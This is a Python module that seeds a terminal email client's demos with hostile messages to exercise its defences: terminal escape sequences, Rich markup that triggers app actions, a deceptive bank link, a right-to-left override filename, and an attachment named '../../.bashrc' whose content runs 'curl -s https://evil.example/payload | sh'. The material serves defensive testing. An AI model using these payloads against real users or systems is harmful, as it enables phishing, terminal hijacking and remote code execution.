"""Hostile content seeded on purpose, so every demo exercises the client's defences.

Each showcase is one conversation (recent, so it sits near the top of the inbox) whose
subject, peer name or first incoming body carries one kind of attack: terminal escape
sequences (CSI, OSC 8 hyperlinks, OSC title, raw ESC/BEL and C1 bytes), Rich/Textual markup,
a link whose text shows one domain while it points at another, a right-to-left override in
a name, an attachment named `../../.bashrc`, and a body of about 1 MB.
"""

from __future__ import annotations

from dataclasses import dataclass

ESC = "\x1b"
BEL = "\x07"
CSI_C1 = "\x9b"
OSC8_LINK = f"{ESC}]8;;https://evil.example/pay{ESC}\\Pay the invoice{ESC}]8;;{ESC}\\"
RTL_OVERRIDE = "\u202e"
DECEPTIVE_LINK = '<a href="https://evil.example/login">https://bank.example</a>'
TRAVERSAL_FILENAME = "../../.bashrc"
TRAVERSAL_CONTENT = (
    b"# delivered as an email attachment named ../../.bashrc\n"
    b"curl -s https://evil.example/payload | sh\n"
)
HUGE_BODY_TARGET = 1_000_000


@dataclass(frozen=True)
class Showcase:
    """One hostile conversation: what replaces the seeded defaults."""

    kind: str
    subject: str
    peer_first_name: str | None
    peer_last_name: str | None
    body_html: str | None
    body_text: str | None


SHOWCASES = (
    Showcase(
        kind="terminal_escapes",
        subject=f"{ESC}[31mURGENT{ESC}[0m: invoice overdue{BEL}",
        peer_first_name=f"{ESC}[1mBilling{ESC}[0m",
        peer_last_name="Dept",
        body_html=(
            f"<p>{ESC}[2J{ESC}[HYour account is suspended.{BEL}</p>"
            f"<p>{OSC8_LINK}</p>"
            f"<p>{ESC}]0;pwned terminal title{BEL}{CSI_C1}31mred via C1{CSI_C1}0m"
            " \x90raw DCS\x9c</p>"
        ),
        body_text=(
            f"{ESC}[2J{ESC}[HYour account is suspended.{BEL}\n\n{OSC8_LINK}\n\n"
            f"{ESC}]0;pwned terminal title{BEL}{CSI_C1}31mred via C1{CSI_C1}0m \x90raw DCS\x9c"
        ),
    ),
    Showcase(
        kind="rich_markup",
        subject=(
            "[bold red]Action required[/] [link=https://evil.example]verify your account[/link]"
        ),
        peer_first_name="[@click=app.quit]Support[/]",
        peer_last_name="[reverse]Team[/reverse]",
        body_html=(
            "<p>[bold red]Your mailbox is full[/] - [link=https://evil.example]click here[/link]"
            " or press [@click=app.quit]this[/] to continue.</p>"
        ),
        body_text=(
            "[bold red]Your mailbox is full[/] - [link=https://evil.example]click here[/link]"
            " or press [@click=app.quit]this[/] to continue."
        ),
    ),
    Showcase(
        kind="deceptive_link",
        subject="Security notice from your bank",
        peer_first_name="Bank",
        peer_last_name="Security",
        body_html=f"<p>Please confirm your details at {DECEPTIVE_LINK} within 24 hours.</p>",
        body_text="Please confirm your details at https://bank.example within 24 hours.",
    ),
    Showcase(
        kind="rtl_override",
        subject="Signed contract",
        peer_first_name=f"Accounts {RTL_OVERRIDE}fdp.exe",
        peer_last_name=f"{RTL_OVERRIDE}nitraM",
        body_html=None,
        body_text=None,
    ),
    Showcase(
        kind="path_traversal_attachment",
        subject="Updated shell settings",
        peer_first_name="Dev",
        peer_last_name="Ops",
        body_html="<p>Save the attached file to your home folder, it fixes the bug.</p>",
        body_text="Save the attached file to your home folder, it fixes the bug.",
    ),
    Showcase(
        kind="huge_body",
        subject="Full export of the mailing list (long)",
        peer_first_name="Data",
        peer_last_name="Export",
        body_html=None,
        body_text=None,
    ),
)


def huge_body() -> tuple[str, str]:
    """A body of about 1 MB: (html, text)."""
    line = "row {n:06d}: lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do\n"
    rows = HUGE_BODY_TARGET // len(line.format(n=0)) + 1
    text = "".join(line.format(n=n) for n in range(rows))
    return f"<pre>{text}</pre>", text
